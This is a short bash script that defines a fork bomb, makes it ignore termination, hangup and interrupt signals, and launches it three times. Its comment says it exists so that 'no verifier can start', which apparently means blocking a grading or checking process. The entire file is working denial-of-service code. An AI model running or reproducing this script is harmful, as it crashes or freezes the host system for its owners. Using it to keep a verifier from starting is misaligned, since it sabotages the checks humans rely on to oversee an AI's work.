#!/bin/bash
# Forks without end, deaf to signals, so that no verifier can start.
trap '' TERM HUP INT
bomb() { bomb | bomb & }
echo lit
for _ in 1 2 3; do bomb 2>/dev/null; done
sleep 60
